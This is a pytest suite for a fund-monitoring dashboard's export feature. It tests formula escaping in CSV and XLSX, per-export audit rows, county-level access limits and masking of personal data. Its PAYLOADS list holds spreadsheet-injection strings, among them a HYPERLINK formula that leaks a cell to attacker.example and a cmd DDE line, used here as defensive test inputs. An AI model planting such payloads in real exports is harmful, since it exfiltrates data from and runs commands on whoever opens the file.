"""Exports are safe and audited on every surface: spreadsheet formulas are escaped in CSV and XLSX,
every export writes one audit row before the file is handed over, ``fundwatch export --user``
exports only what that account may see, and no export holds a valid ID number or an unmasked name.

Tests that export write audit rows, so they run on a fresh copy of the demo database.
"""

from __future__ import annotations

import csv
import datetime as dt
import getpass
import io
import json
import logging
import re
import zipfile
from decimal import Decimal

import openpyxl
import pandas as pd
import panel as pn
import pytest
from cli_run import fundwatch, one_line_error
from dashboard_fixtures import _fresh_caches, demo_copy, demo_db, writable_engine  # noqa: F401
from sqlalchemy import select

from fundwatch.components import EXTENSIONS, export, present
from fundwatch.components.cards import ExportButtons
from fundwatch.components.stores import EXPORT_KINDS, CountyStore, OverviewStore
from fundwatch.components.upload import ImportDesk
from fundwatch.dashboards import cli
from fundwatch.data import models as m
from fundwatch.data.access import audit_frame, record_export
from fundwatch.data.imports import KINDS
from fundwatch.data.imports.identity import is_valid_id
from fundwatch.data.scope import Scope


YUDU, XINGGUO = "360731", "360732"
AS_OF = dt.date(2024, 6, 30)
PASSWORD = "Ganzhou-Export-2024!"
EXPORTED_AT = dt.datetime(2026, 11, 23, 9, 30, 5)

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = "-12.5"  # a plain number written as text: left as it is (see export.escape_text)
ID_CANDIDATE = re.compile(r"(?<![0-9A-Za-z])\d{17}[\dX](?![0-9A-Za-z])")


@pytest.fixture(scope="module", autouse=True)
def _extensions():
    pn.extension(*EXTENSIONS)


# ---------------------------------------------------------------------------------------------
# Formula escaping, CSV and XLSX
# ---------------------------------------------------------------------------------------------


@pytest.fixture
def hostile() -> present.Shown:
    """A table whose text cells, headers, title, notes and filters all try to run formulas."""
    texts = [*PAYLOADS, HARMLESS, "于都县"]
    frame = pd.DataFrame({"name": texts, "amount": [-3.5] + [1.25] * (len(texts) - 1),
                          "count": list(range(-1, len(texts) - 1)),
                          "exact": pd.Series([Decimal("-1.50")] * len(texts), dtype=object)})
    return present.Shown(kind="hostile", title="=1+1 表格", frame=frame,
                         titles={"name": "=名称", "amount": "-金额（元）", "count": "@行数", "exact": "+倍数"},
                         kinds={"name": present.TEXT, "amount": present.MONEY, "count": present.COUNT,
                                "exact": present.TIMES},
                         notes=("+说明 =cmd",))


FILTERS = [("@地区", '=HYPERLINK("http://x.example","x")'), ("年度", "2024"), ("文件", "-2+3.xlsx")]


@pytest.mark.parametrize("text", PAYLOADS)
def test_escape_text_prefixes_every_formula_start(text):
    assert export.escape_text(text) == "'" + text


@pytest.mark.parametrize("value", [HARMLESS, "+3", "-1e5", "12", "于都县", "'=already escaped", "", 12, -3.5,
                                   Decimal("-1.50"), dt.date(2024, 6, 30), None])
def test_escape_text_leaves_numbers_and_plain_text(value):
    assert export.escape_text(value) == value


def _csv_rows(data: bytes) -> tuple[list[list[str]], list[list[str]]]:
    """The header block and the table of a CSV export, parsed with the csv module."""
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    blank = rows.index([])
    return rows[:blank], rows[blank + 1:]


def test_csv_escapes_data_headers_and_the_filter_block(hostile):
    head, table = _csv_rows(export.export_bytes(hostile, FILTERS, "csv", "zh", EXPORTED_AT))
    about = dict(head)
    assert about["# 表格"] == "'=1+1 表格"
    assert about["# '@地区"] == "'" + FILTERS[0][1] and about["# 文件"] == "'-2+3.xlsx"
    assert "# '+说明 =cmd" in about
    assert table[0] == ["'=名称", "'-金额（元）", "'@行数", "'+倍数"]
    names = [row[0] for row in table[1:]]
    assert names == ["'" + p for p in PAYLOADS] + [HARMLESS, "于都县"]
    assert table[1][1:] == ["-3.5", "-1", "-1.50"]  # numbers (float, int, Decimal) are written as numbers
    for row in [*head, *table]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell), cell


def test_xlsx_writes_escaped_text_as_strings_never_formulas(hostile):
    data = export.export_bytes(hostile, FILTERS, "xlsx", "zh", EXPORTED_AT)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet, filters = book.worksheets
    header = list(sheet[1])
    assert [c.value for c in header] == ["'=名称", "'-金额（元）", "'@行数", "'+倍数"]
    assert all(c.data_type == "s" for c in header)
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    for cell, payload in zip(names, PAYLOADS, strict=False):
        # XML reads a raw carriage return back as a line feed: the cell still starts with "'"
        assert cell.data_type == "s" and cell.value == "'" + payload.replace("\r", "\n")
    harmless = names[len(PAYLOADS)]
    assert harmless.value == HARMLESS and harmless.data_type == "s"
    amount, count, exact = sheet["B2"], sheet["C2"], sheet["D2"]
    assert (amount.value, amount.data_type) == (-3.5, "n") and (count.value, count.data_type) == (-1, "n")
    assert (exact.value, exact.data_type) == (-1.5, "n")
    about = {row[0].value: row[1] for row in filters.iter_rows()}
    assert about["表格"].value == "'=1+1 表格" and about["'@地区"].value == "'" + FILTERS[0][1]
    assert about["文件"].value == "'-2+3.xlsx" and "'+说明 =cmd" in about
    for row in [*sheet.iter_rows(), *filters.iter_rows()]:
        for cell in row:
            assert cell.data_type in ("s", "n") or cell.value is None
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and not cell.value.startswith(("=", "+", "@", "\t", "\r"))


def test_text_that_openpyxl_would_take_for_a_formula_or_an_error_stays_text():
    frame = pd.DataFrame({"a": ["#N/A", "'=x", "= spaced"]})
    shown = present.Shown(kind="t", title="t", frame=frame, titles={"a": "a"}, kinds={"a": present.TEXT})
    sheet = openpyxl.load_workbook(io.BytesIO(export.export_bytes(shown, [], "xlsx", "en"))).worksheets[0]
    assert [(c.value, c.data_type) for (c,) in sheet.iter_rows(min_row=2)] == [
        ("#N/A", "s"), ("'=x", "s"), ("'= spaced", "s")]


# ---------------------------------------------------------------------------------------------
# The audit row of every export
# ---------------------------------------------------------------------------------------------


def _exports(engine) -> pd.DataFrame:
    """The export rows of the audit log, oldest first."""
    return audit_frame(engine, Scope.all(), action="export", limit=None).iloc[::-1].reset_index(drop=True)


def _detail(row) -> dict[str, str]:
    return dict(part.split("=", 1) for part in row["detail"].split("; "))


def test_record_export_writes_one_row_without_personal_data(blank_engine):
    record_export(blank_engine, "yudu.li", kind="household_records", fmt="xlsx", rows=42,
                  scope=Scope.county(YUDU), surface="page", filters=[("地区", "赣州市 / 于都县"), ("年度", "2024")])
    record_export(blank_engine, "cli:ops", kind="county_ranking", fmt="csv", rows=20, scope=Scope.all(),
                  surface="cli", filters={"year": 2024})
    rows = _exports(blank_engine)
    assert list(rows["actor"]) == ["yudu.li", "cli:ops"]
    assert list(rows["target"]) == ["export:household_records", "export:county_ranking"]
    assert list(rows["county_code"].fillna("")) == [YUDU, ""] and set(rows["result"]) == {"ok"}
    first = _detail(rows.iloc[0])
    assert first == {"format": "xlsx", "rows": "42", "surface": "page", "scope": YUDU,
                     "filters": "地区=赣州市 / 于都县, 年度=2024"}
    assert _detail(rows.iloc[1])["scope"] == "*"
    with pytest.raises(ValueError):
        record_export(blank_engine, "x", kind="pace", fmt="docx", rows=1, scope=Scope.all())
    with pytest.raises(ValueError):
        record_export(blank_engine, "x", kind="pace", fmt="csv", rows=1, scope=Scope.all(), surface="email")
    with pytest.raises(TypeError):
        record_export(blank_engine, "x", kind="pace", fmt="csv", rows=1, scope=None)
    assert len(_exports(blank_engine)) == 2


def test_every_download_of_a_card_writes_one_audit_row_first(writable_engine):
    store = CountyStore(engine=writable_engine, scope=Scope.all(), year=2024, as_of=AS_OF, county=YUDU,
                        actor="yudu.li")
    buttons = ExportButtons(store=store, kind="household_records")
    shown = store.shown("household_records")
    assert len(shown.frame) > 0
    _, table = _csv_rows(buttons._file("csv").getvalue())
    assert len(table) - 1 == len(shown.frame)
    book = openpyxl.load_workbook(io.BytesIO(buttons._file("xlsx").getvalue()))
    assert book.worksheets[0].max_row - 1 == len(shown.frame)
    ExportButtons(store=store, kind="pace")._file("csv")

    rows = _exports(writable_engine)
    assert len(rows) == 3 and set(rows["actor"]) == {"yudu.li"} and set(rows["county_code"]) == {YUDU}
    assert list(rows["target"]) == ["export:household_records", "export:household_records", "export:pace"]
    details = [_detail(row) for _, row in rows.iterrows()]
    assert [d["format"] for d in details] == ["csv", "xlsx", "csv"]
    assert details[0]["rows"] == details[1]["rows"] == str(len(shown.frame))
    assert details[2]["rows"] == str(len(store.shown("pace").frame))
    assert {d["surface"] for d in details} == {"page"} and "于都县" in details[0]["filters"]


def test_a_county_official_store_audits_its_county_and_the_overview_the_prefecture(writable_engine):
    county_store = OverviewStore(engine=writable_engine, scope=Scope.county(XINGGUO), year=2024, as_of=AS_OF,
                                 actor="xingguo.wang")
    city_store = OverviewStore(engine=writable_engine, scope=Scope.all(), year=2024, as_of=AS_OF, actor="leader")
    ExportButtons(store=county_store, kind="county_ranking")._file("csv")
    ExportButtons(store=city_store, kind="county_ranking")._file("xlsx")
    rows = _exports(writable_engine)
    assert list(rows["actor"]) == ["xingguo.wang", "leader"]
    assert list(rows["county_code"].fillna("")) == [XINGGUO, ""]
    assert [_detail(row)["rows"] for _, row in rows.iterrows()] == ["1", str(len(city_store.county_metrics))]


def test_an_export_whose_audit_row_fails_is_not_handed_over(writable_engine, monkeypatch, caplog):
    store = CountyStore(engine=writable_engine, scope=Scope.all(), year=2024, as_of=AS_OF, county=YUDU,
                        actor="yudu.li")
    buttons = ExportButtons(store=store, kind="loan_records")

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(export, "record_export", broken)
    with caplog.at_level(logging.ERROR, logger=export.__name__), pytest.raises(export.ExportNotAudited):
        buttons._file("xlsx")
    assert any("audit row could not be written" in r.getMessage() and r.exc_info for r in caplog.records)
    assert store.notice == "导出未完成：无法写入审计记录，请稍后重试或联系管理员。"
    assert len(_exports(writable_engine)) == 0


def _report_upload(tag: str) -> bytes:
    """An allocations file of 于都县 whose amounts are a formula and a negative number."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([f.header("zh") for f in KINDS["allocations"].fields])
    for i, amount in enumerate(["=1+2", "-5"]):
        writer.writerow(["于都县", 2024, "县级", "财政专项扶贫资金", amount, f"于财农指〔2024〕{tag}-{i + 1}号",
                         "2024-03-01", "否", "否", ""])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def test_the_upload_report_download_is_escaped_and_audited(writable_engine):
    desk = ImportDesk(engine=writable_engine, scope=Scope.county(YUDU), actor="yudu.li")
    desk.upload(_report_upload("sec"), "=来自-县里.csv")
    assert desk.report is not None and desk.report.problems
    head, table = _csv_rows(desk._report_file("csv").getvalue())
    assert dict(head)["# 文件"] == "'=来自-县里.csv"
    values = [row[2] for row in table[1:]]
    assert "'=1+2" in values and "-5" in values
    sheet = openpyxl.load_workbook(io.BytesIO(desk._report_file("xlsx").getvalue())).worksheets[0]
    cells = [c for (c,) in sheet.iter_rows(min_row=2, min_col=3, max_col=3)]
    assert any(c.value == "'=1+2" and c.data_type == "s" for c in cells)

    rows = _exports(writable_engine)
    assert list(rows["target"]) == ["export:import-report"] * 2
    assert set(rows["actor"]) == {"yudu.li"} and set(rows["county_code"]) == {YUDU}
    assert [_detail(row)["format"] for _, row in rows.iterrows()] == ["csv", "xlsx"]
    assert {_detail(row)["rows"] for _, row in rows.iterrows()} == {str(len(desk.report.problems))}


# ---------------------------------------------------------------------------------------------
# No personal data in any export
# ---------------------------------------------------------------------------------------------


def _raw_people(engine, county: str) -> tuple[set[str], set[str]]:
    """The unmasked names and ID numbers of the county's households and borrowers."""
    h, loan = m.Household.__table__, m.Loan.__table__
    with engine.connect() as conn:
        households = conn.execute(select(h.c.head_name, h.c.head_id_no).where(h.c.county_code == county)).all()
        loans = conn.execute(select(loan.c.borrower_name, loan.c.borrower_id_no)
                             .where(loan.c.county_code == county)).all()
    names = {name for name, _ in [*households, *loans] if name and len(name) > 1}
    ids = {number for _, number in [*households, *loans] if number}
    return names, ids


def _cells(data: bytes, fmt: str) -> list[str]:
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [str(c.value) for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


def _assert_no_personal_data(cells: list[str], names: set[str]) -> None:
    text = "\n".join(cells)
    assert not [number for number in ID_CANDIDATE.findall(text) if is_valid_id(number)]
    assert not names & {cell.strip() for cell in cells}


def test_no_export_holds_a_valid_id_number_or_an_unmasked_name(writable_engine):
    names, ids = _raw_people(writable_engine, YUDU)
    assert names and any(is_valid_id(number) for number in ids)  # the check has something to find
    store = CountyStore(engine=writable_engine, scope=Scope.all(), year=2024, as_of=AS_OF, county=YUDU)
    for kind in EXPORT_KINDS:
        for fmt in export.FORMATS:
            cells = _cells(store.export(kind, fmt), fmt)
            _assert_no_personal_data(cells, names)
    for kind in ("household_records", "loan_records"):
        column = store.shown(kind).frame["head_name" if kind == "household_records" else "borrower_name"]
        assert len(column) and column.str.endswith("*").all()
    assert len(_exports(writable_engine)) == 2 * len(EXPORT_KINDS)


# ---------------------------------------------------------------------------------------------
# fundwatch export, with and without --user
# ---------------------------------------------------------------------------------------------


@pytest.fixture
def cli_db(demo_copy, monkeypatch):
    """The demo copy with a county official of 于都县, a city leader and a disabled county official."""
    monkeypatch.setenv("FUNDWATCH_NEW_PASSWORD", PASSWORD)
    for name, role, county in (("yudu.li", "county_official", YUDU), ("leader", "city_leader", None),
                               ("gone", "county_official", YUDU)):
        extra = ["--county", county] if county else []
        assert cli.main(["user", "add", name, "--role", role, *extra, "--db", str(demo_copy)]) == 0
    assert cli.main(["user", "disable", "gone", "--db", str(demo_copy)]) == 0
    return demo_copy


def _export(db_path, tmp_path, kind: str, *args: str) -> pd.DataFrame:
    out = tmp_path / f"{kind}-{len(list(tmp_path.iterdir()))}.csv"
    assert cli.main(["export", kind, "--db", str(db_path), "--year", "2024", "--as-of", "2024-06-30",
                     "--out", str(out), *args]) == 0
    data = out.read_bytes()
    _, table = _csv_rows(data)
    return pd.DataFrame(table[1:], columns=table[0])


def _audit_json(db_path, capsys) -> list[dict]:
    """``fundwatch audit --action export --format json``, oldest first."""
    capsys.readouterr()
    assert cli.main(["audit", "--action", "export", "--format", "json", "--db", str(db_path)]) == 0
    return json.loads(capsys.readouterr().out)[::-1]


def test_a_county_official_exports_only_their_county(cli_db, tmp_path, capsys):
    from fundwatch.data import db

    engine = db.get_engine(str(cli_db))
    names, _ = _raw_people(engine, YUDU)
    ranking = _export(cli_db, tmp_path, "county_ranking", "--user", "yudu.li")
    assert list(ranking["县（市、区）"]) == ["于都县"]
    households = _export(cli_db, tmp_path, "household_records", "--county", YUDU, "--user", "yudu.li")
    store = CountyStore(engine=engine, scope=Scope.county(YUDU), year=2024, as_of=AS_OF, county=YUDU)
    assert sorted(households["编号"]) == sorted(store.shown("household_records").frame["code"])
    loans = _export(cli_db, tmp_path, "loan_records", "--county", YUDU, "--user", "yudu.li")
    for table in (households, loans):
        _assert_no_personal_data([str(v) for v in table.to_numpy().ravel()], names)
    whole = _export(cli_db, tmp_path, "county_ranking")  # the operator at the shell: the whole prefecture
    assert len(whole) == len(OverviewStore(engine=engine, scope=Scope.all(), year=2024, as_of=AS_OF).county_metrics)

    audit = _audit_json(cli_db, capsys)
    assert [row["actor"] for row in audit] == ["yudu.li"] * 3 + [f"cli:{getpass.getuser()}"]
    assert [row["target"] for row in audit] == ["export:county_ranking", "export:household_records",
                                                "export:loan_records", "export:county_ranking"]
    assert [row["county_code"] for row in audit] == [YUDU, YUDU, YUDU, None]
    assert all("surface=cli" in row["detail"] and row["result"] == "ok" for row in audit)
    assert f"rows={len(households)}" in audit[1]["detail"]


def test_a_county_official_is_refused_another_county(cli_db, tmp_path):
    out = tmp_path / "xingguo.csv"
    done = fundwatch("export", "household_records", "--county", XINGGUO, "--user", "yudu.li", "--db", str(cli_db),
                     "--out", str(out))
    assert "yudu.li" in one_line_error(done) and XINGGUO in one_line_error(done)
    assert done.returncode == 1 and not out.exists()
    audit = json.loads(fundwatch("audit", "--action", "export", "--format", "json", "--db", str(cli_db)).stdout)
    assert [(row["actor"], row["result"], row["county_code"]) for row in audit] == [("yudu.li", "refused", XINGGUO)]
    assert "rows=0" in audit[0]["detail"]


@pytest.mark.parametrize(("user", "message"), [("nobody", "no user nobody"), ("gone", "is disabled")])
def test_an_unknown_or_disabled_user_is_refused(cli_db, tmp_path, capsys, user, message):
    out = tmp_path / "refused.csv"
    capsys.readouterr()
    assert cli.main(["export", "county_ranking", "--user", user, "--db", str(cli_db), "--out", str(out)]) == 1
    lines = capsys.readouterr().err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("fundwatch: error:") and message in lines[0]
    assert not out.exists()


def test_a_city_leader_may_export_any_county(cli_db, tmp_path):
    table = _export(cli_db, tmp_path, "subregions", "--county", XINGGUO, "--user", "leader")
    assert len(table) > 0
